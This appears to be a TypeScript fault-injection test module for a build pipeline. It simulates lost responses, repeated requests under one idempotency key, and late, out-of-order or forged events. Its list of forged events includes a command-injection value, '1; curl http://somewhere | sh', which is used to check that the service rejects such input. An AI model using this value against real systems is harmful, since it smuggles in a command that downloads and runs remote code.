import { STATES } from '../workflow';
import { person } from './deed';
import { ofState, striker } from './functions';
import type { Armed, Kind, Striker } from './kind';

const atOnce = (armed: Armed): Armed => ({ ...armed, drawn: { ...armed.drawn, position: 0, times: 1 } });

/** The request that was answered first, with its key. */
async function findAsked({ world, build }: Armed) {
  // Until it is answered nobody knows whether it was taken.
  for (let looks = 0; looks < 60; looks += 1) {
    const asked = world.people.firstAsked;
    if (asked) return asked.id === undefined ? undefined : { ...asked, id: asked.id };
    await world.sleep(15);
  }
  throw new Error(`the request for ${build || 'the build'} was never answered`);
}

/** Who was not answered asks again, with the same key: it is the build of the first time. */
const askAgain = person(async (armed) => {
  const { people } = armed.world;
  const asked = await findAsked(armed);
  if (!asked) return false;
  const path = `/pipelines/${asked.pipeline}/builds`;
  const answer = await people.call(path, asked.body, asked.key);
  const isSame = answer.status === 202 && (answer.body as { id: string }).id === asked.id;
  if (!isSame) people.complain(`${asked.id} was asked for again`, answer);
  return true;
});

const askOtherwise = person(async (armed) => {
  const { people } = armed.world;
  const asked = await findAsked(armed);
  if (!asked) return false;
  const body = { ...asked.body, once: true };
  const answer = await people.call(`/pipelines/${asked.pipeline}/builds`, body, asked.key);
  if (answer.status !== 409) people.complain(`${asked.key} came with another body`, answer);
  return true;
});

/** What an event tells that nobody should believe, or that cannot be built. */
const FORGED: readonly object[] = [
  {},
  { version: '1; curl http://somewhere | sh', break: 'nothing' },
  { version: { $ref: 'x' }, break: 'nothing' },
  { version: '1', break: ['servers'] },
];

/** The event is on its way for a while, and nothing is judged before it has come. */
function delay(armed: Armed): Striker {
  const { world, drawn } = armed;
  world.act(drawn.delay + 30, async () => {});
  return striker(atOnce(armed), { kind: 'late', delay: drawn.delay }, ofState(armed));
}

/** The first event is on its way when the second comes. */
function overtake(armed: Armed): Striker {
  const { world } = armed;
  world.act(1, () => world.people.announce());
  return delay(armed);
}

/** What goes wrong with the request for the build itself. */
export const REQUEST_KINDS: readonly Kind[] = [
  {
    name: 'answer to the request lost',
    heals: true,
    at: ['postBuild'],
    range: { times: 3 },
    arm: (armed) =>
      striker(
        { ...armed, drawn: { ...armed.drawn, position: 0 } },
        { kind: 'afterEffect', code: 'ServiceException', status: 500 },
        ofState(armed),
      ),
  },
  { name: 'request asked again', heals: true, at: ['postBuild'], range: { delay: [0, 3600] }, arm: askAgain },
  {
    name: 'another request under its key',
    heals: true,
    at: ['postBuild'],
    range: { delay: [0, 3600] },
    arm: askOtherwise,
  },
  {
    name: 'event that asks comes late',
    heals: true,
    at: ['requestBuild'],
    range: { delay: [30, 1200] },
    arm: delay,
  },
  {
    name: 'events that ask come out of order',
    heals: false,
    at: ['requestBuild'],
    range: { delay: [30, 1200] },
    arm: overtake,
  },
  {
    name: 'event that asks is forged',
    heals: true,
    at: STATES,
    range: { delay: [0, 60] },
    arm: person(async ({ world, drawn }) => {
      await world.people.putEvent(FORGED[drawn.choice % FORGED.length] ?? {});
      return true;
    }),
  },
];
